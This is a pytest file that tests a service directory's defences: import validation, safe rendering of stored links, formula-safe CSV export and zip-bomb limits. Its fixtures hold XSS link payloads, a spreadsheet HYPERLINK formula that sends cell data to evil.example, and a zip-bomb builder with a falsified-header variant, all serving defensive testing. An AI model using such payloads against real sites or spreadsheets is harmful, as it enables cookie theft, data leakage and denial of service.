"""Directory data that cannot hurt: imports refuse bad formats, non-web links, impossible opening times,
ages the wrong way round, a repeated id with different data and zip bombs, through the command line
and the back-office import page; a stored non-web link is never rendered; the CSV export is
spreadsheet-safe and reads back as it was."""

import copy
import html
import io
import json
import re
import struct
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import func, select

from alliance.directory import export, import_read, import_write
from alliance.directory import models as m
from alliance.directory.seed import seed_directory
from tests.factories import make_staff
from tests.integration.backoffice.conftest import csrf_token, signed_in_client, submit

CONTENT = Path(__file__).resolve().parents[3] / "content"
TAXONOMY = json.loads((CONTENT / "directory" / "taxonomy.json").read_text(encoding="utf-8"))
TERM_ID = TAXONOMY["taxonomies"][0]["taxonomy_terms"][0]["id"]
SERVICE_ID = "0d6a6f0e-3c1b-4c5e-9d8e-1f2a3b4c5d6e"
OTHER_ID = "0d6a6f0e-3c1b-4c5e-9d8e-1f2a3b4c5d6f"
ORG_ID = "5e0c8a1d-2b3c-4d5e-8f90-a1b2c3d4e5f6"
SCHEDULE_ID = "6f1d9b2e-3c4d-4e5f-9a01-b2c3d4e5f6a7"
MB = 1024 * 1024


def a_service(service_id: str = SERVICE_ID, **changes) -> dict:
    service = {
        "id": service_id,
        "name": "Hallam Test Drop-in (example)",
        "description": "Example listing for tests.",
        "status": "active",
        "url": "https://example.org/drop-in",
        "email": "drop-in@example.org",
        "minimum_age": 18,
        "maximum_age": 65,
        "organization": {
            "id": ORG_ID,
            "name": "Hallam Trust",
            "description": "An example trust.",
            "website": "https://example.org",
        },
        "schedules": [
            {"id": SCHEDULE_ID, "freq": "WEEKLY", "byday": "MO", "opens_at": "10:00", "closes_at": "12:00"}
        ],
        "attributes": [{"id": "7b0c9d2e-1111-4a2b-8c3d-4e5f6a7b8c9d", "taxonomy_term_id": TERM_ID}],
        "x_alliance": {"locality": "sheffield", "example_data": True},
    }
    service.update(changes)
    return service


def bad_service() -> dict:
    service = a_service(
        url="javascript:alert(document.cookie)",
        email="not-an-email",
        last_modified="yesterday",
        minimum_age=65,
        maximum_age=18,
    )
    service["organization"]["website"] = "JavaScript://example.org/%0Aalert(1)"
    service["schedules"][0]["opens_at"] = "25:99"
    return service


# Each problem names the record and the field.
EXPECTED = [
    "services[0], url: must be a web address starting http:// or https://",
    "services[0], email: 'not-an-email' is not a 'email'",
    "services[0], last_modified: 'yesterday' is not a 'date-time'",
    "services[0], minimum_age: is above maximum_age (65 > 18)",
    "services[0].organization, website: must be a web address starting http:// or https://",
    "services[0].schedules[0], opens_at: must be a time of day like 09:30 (24-hour, 00:00 to 23:59)",
]


@pytest.fixture
def directory(app, session):
    with app.app_context():
        seed_directory(session, CONTENT)
    return session


@pytest.fixture
def manager(app, session):
    return signed_in_client(app, make_staff(session, roles="directory_manager", email="dm@example.nhs.uk"))


def _count_services(session) -> int:
    session.expire_all()
    return session.scalar(select(func.count()).select_from(m.Service))


def _upload(client, payload: bytes, filename: str, mode: str = "import"):
    page = client.get("/backoffice/directory/import").get_data(as_text=True)
    return client.post(
        "/backoffice/directory/import",
        data={"csrf_token": csrf_token(page), "mode": mode, "datafile": (io.BytesIO(payload), filename)},
        content_type="multipart/form-data",
    )


def _page_errors(response) -> list[str]:
    body = re.search(r'nhsuk-error-summary__list">(.*?)</ul>', response.get_data(as_text=True), re.S).group(1)
    return [html.unescape(re.sub(r"<[^>]+>", "", item)) for item in re.findall(r"<li>(.*?)</li>", body)]


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _bomb(unpacked: int) -> bytes:
    """A services.csv of `unpacked` bytes (mostly one long run of spaces): about 1,000 times smaller zipped."""
    return _zip({"services.csv": b"id,name,status\n" + b" " * (unpacked - 15)})


def _lying(archive: bytes, real_size: int, claimed: int) -> bytes:
    """The same zip with its headers claiming the member unpacks to `claimed` bytes."""
    assert archive.count(struct.pack("<I", real_size)) == 2
    return archive.replace(struct.pack("<I", real_size), struct.pack("<I", claimed))


# Formats, links, times and ages ----------------------------------------------------------------


def test_the_import_command_names_each_bad_field_and_changes_nothing(runner, directory, tmp_path):
    before = _count_services(directory)
    path = tmp_path / "feed.json"
    path.write_text(json.dumps({"services": [bad_service()]}), encoding="utf-8")

    result = runner.invoke(args=["directory", "import", str(path)])

    assert result.exit_code == 1
    lines = result.stdout.splitlines()
    assert lines[0] == f"{len(EXPECTED)} problems; nothing was changed:"
    assert sorted(line.strip() for line in lines[1:]) == sorted(EXPECTED)
    assert _count_services(directory) == before


def test_the_import_page_names_each_bad_field_and_changes_nothing(manager, directory):
    before = _count_services(directory)
    response = _upload(manager, json.dumps({"services": [bad_service()]}).encode(), "feed.json")
    assert response.status_code == 400
    assert sorted(_page_errors(response)) == sorted(EXPECTED)
    assert _count_services(directory) == before


def test_a_good_service_with_the_same_fields_is_imported(runner, directory, tmp_path):
    path = tmp_path / "feed.json"
    path.write_text(json.dumps({"services": [a_service()]}), encoding="utf-8")
    result = runner.invoke(args=["directory", "import", str(path)])
    assert result.exit_code == 0, result.output
    directory.expire_all()
    service = directory.get(m.Service, SERVICE_ID)
    assert service.url == "https://example.org/drop-in" and service.schedules[0].opens_at == "10:00"


def test_a_javascript_link_in_hsds_csv_is_refused_too(manager, directory):
    services_csv = (
        "id,name,description,status,url,email\n"
        f'{SERVICE_ID},Drop-in,x,active,"javascript:alert(1)",someone@example.org\n'
    ).encode()
    response = _upload(manager, _zip({"services.csv": services_csv}), "export.zip", mode="check")
    assert response.status_code == 400
    assert _page_errors(response) == [
        "services.csv row 2, url: must be a web address starting http:// or https://"
    ]


def test_the_same_id_twice_with_different_data_is_reported(runner, directory, tmp_path):
    second = a_service(OTHER_ID, name="Another drop-in", schedules=[], attributes=[])
    second["organization"] = {**a_service()["organization"], "name": "Hallam Trust (renamed)"}
    twice = [a_service(), a_service(name="The same service, changed")]
    path = tmp_path / "feed.json"

    path.write_text(json.dumps({"services": [a_service(), second]}), encoding="utf-8")
    result = runner.invoke(args=["directory", "import", str(path)])
    assert result.exit_code == 1
    assert (
        "  services[1].organization, name: differs from services[0].organization, which has the same id (name)"
        in result.stdout.splitlines()
    )

    path.write_text(json.dumps({"services": twice}), encoding="utf-8")
    result = runner.invoke(args=["directory", "import", str(path)])
    assert result.exit_code == 1
    assert (
        "  services[1], name: differs from services[0], which has the same id (name)"
        in result.stdout.splitlines()
    )

    shared = copy.deepcopy(second)
    shared["organization"] = a_service()["organization"]
    path.write_text(json.dumps({"services": [a_service(), shared]}), encoding="utf-8")
    assert runner.invoke(args=["directory", "import", str(path)]).exit_code == 0


def test_the_import_page_lists_the_first_200_problems_and_how_many_more(manager, directory):
    services = [a_service(f"0d6a6f0e-3c1b-4c5e-9d8e-{n:012d}", status="open-ish") for n in range(230)]
    for service in services:
        service.pop("organization")
        service["schedules"] = service["attributes"] = []  # their ids would repeat
    response = _upload(manager, json.dumps({"services": services}).encode(), "feed.json", mode="check")
    errors = _page_errors(response)
    assert response.status_code == 400
    assert len(errors) == 201
    assert errors[0].startswith("services[0], status: 'open-ish' is not one of")
    assert errors[-1] == "... and 30 more"


# Links already stored --------------------------------------------------------------------------


def test_a_non_web_link_already_stored_is_never_rendered(app, directory):
    service = directory.scalars(
        select(m.Service).join(m.ServiceLocal).where(m.Service.organization_id.is_not(None))
    ).first()
    service.url = "javascript:alert(document.cookie)"
    service.organization.website = "data:text/html,<script>alert(1)</script>"
    directory.commit()
    page = app.test_client().get(f"/en/support/services/{service.id}").get_data(as_text=True)
    assert service.name.split()[0] in page
    assert "javascript:" not in page.lower() and "data:text" not in page

    service.url = "https://example.org/ok"
    directory.commit()
    page = app.test_client().get(f"/en/support/services/{service.id}").get_data(as_text=True)
    assert '<a href="https://example.org/ok" dir="ltr">example.org/ok</a>' in page


def test_a_non_web_link_already_stored_is_not_a_link_in_search_results(app, directory):
    from alliance.directory.search import directory_changed

    service = directory.scalars(select(m.Service).join(m.ServiceLocal).order_by(m.Service.name)).first()
    service.url = "javascript:alert(document.cookie)"
    service.description = "Now with a zebrafish aquarium."
    directory_changed(directory)
    directory.commit()
    page = app.test_client().get("/en/support?q=zebrafish").get_data(as_text=True)
    assert service.name.replace("'", "&#39;") in page
    assert "javascript:" not in page.lower()


# Back-office forms -----------------------------------------------------------------------------


def test_the_service_form_refuses_a_javascript_link_and_an_impossible_time(manager, directory):
    service = directory.scalars(select(m.Service).join(m.ServiceLocal)).first()
    from alliance.directory import upkeep

    answers = upkeep.service_form_data(directory, service.id)
    answers.update(
        url="javascript://example.org/%0Aalert(1)", days=["MO"], opens_at="25:99", closes_at="26:00"
    )
    response = submit(manager, f"/backoffice/directory/services/{service.id}/edit", answers)
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "Enter a full web address starting https:// or http://, like https://www.example.org" in page
    assert "Enter a time like 09:30" in page and "Enter a time like 16:00" in page
    directory.expire_all()
    assert directory.get(m.Service, service.id).url != answers["url"]


def test_the_organisation_form_refuses_a_javascript_link(manager, directory):
    org = directory.scalars(select(m.Organization)).first()
    before = org.website
    response = submit(
        manager,
        f"/backoffice/directory/organisations/{org.id}",
        {"name": org.name, "description": org.description or "", "website": "javascript://x.org/%0Aalert(1)"},
    )
    assert response.status_code == 400
    assert "Enter a full web address starting https:// or http://" in response.get_data(as_text=True)
    directory.expire_all()
    assert directory.get(m.Organization, org.id).website == before


# The CSV export --------------------------------------------------------------------------------


def test_the_csv_export_neutralises_formulas_keeps_numbers_and_reads_back_unchanged(app, directory):
    service = directory.scalars(select(m.Service).order_by(m.Service.id)).first()
    service.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    service.description = "-- leaflets and +1 more @reception"
    directory.commit()
    with app.app_context():
        archive = export.export_csv(directory)
    with zipfile.ZipFile(io.BytesIO(archive)) as files:
        services_csv = files.read("services.csv").decode()
        locations_csv = files.read("locations.csv").decode()
    assert "'=HYPERLINK" in services_csv and ",=HYPERLINK" not in services_csv
    assert "'-- leaflets and +1 more @reception" in services_csv
    assert re.search(r",-1\.\d+,", locations_csv)  # Sheffield's longitude is a number, not a formula
    with app.app_context():
        report = import_write.apply(directory, import_read.read_upload("export.zip", archive), dry_run=True)
    assert report.ok and report.changed == 0, report.lines()


# Sizes -----------------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_by_the_command_after_reading_no_more_than_the_limit(
    app, runner, directory, tmp_path, monkeypatch
):
    monkeypatch.setitem(app.config, "IMPORT_UNZIPPED_MAX_BYTES", 2 * MB)
    path = tmp_path / "bomb.zip"
    path.write_bytes(_bomb(20 * MB))
    assert path.stat().st_size < 100 * 1024

    result = runner.invoke(args=["directory", "import", str(path)])

    assert result.exit_code == 1
    assert "services.csv unzipped, with the files before it, is larger than the limit of 2,097,152 bytes" in (
        result.output
    )
    assert "Nothing was changed." in result.output


def test_a_zip_whose_header_understates_its_size_is_refused_by_the_import_page(
    app, manager, directory, monkeypatch
):
    monkeypatch.setitem(app.config, "IMPORT_UNZIPPED_MAX_BYTES", 2 * MB)
    honest = _bomb(20 * MB)
    assert "is larger than the limit of 2,097,152 bytes" in _page_errors(_upload(manager, honest, "b.zip"))[0]
    lying = _lying(honest, 20 * MB, 1000)
    response = _upload(manager, lying, "bomb.zip")
    assert response.status_code == 400
    assert _page_errors(response) == ["The file cannot be read: not a readable zip file"]


def test_a_zip_with_corrupt_compressed_data_is_a_clear_error_not_a_crash(manager, directory):
    corrupt = bytearray(_zip({"services.csv": b"id,name,status\n" + b"abc,def,active\n" * 1000}))
    for at in range(50, 70):
        corrupt[at] ^= 0xFF
    response = _upload(manager, bytes(corrupt), "export.zip")
    assert response.status_code == 400
    assert _page_errors(response) == ["The file cannot be read: not a readable zip file"]


def test_a_file_over_the_import_limit_is_refused_by_the_command_before_it_is_read(
    app, runner, directory, tmp_path, monkeypatch
):
    monkeypatch.setitem(app.config, "IMPORT_MAX_BYTES", 1000)
    path = tmp_path / "feed.json"
    path.write_text(json.dumps({"services": [a_service()] * 5}), encoding="utf-8")
    result = runner.invoke(args=["directory", "import", str(path)])
    assert result.exit_code == 1
    assert (
        "feed.json: the file is larger than the limit of 1,000 bytes. Nothing was changed." in result.output
    )
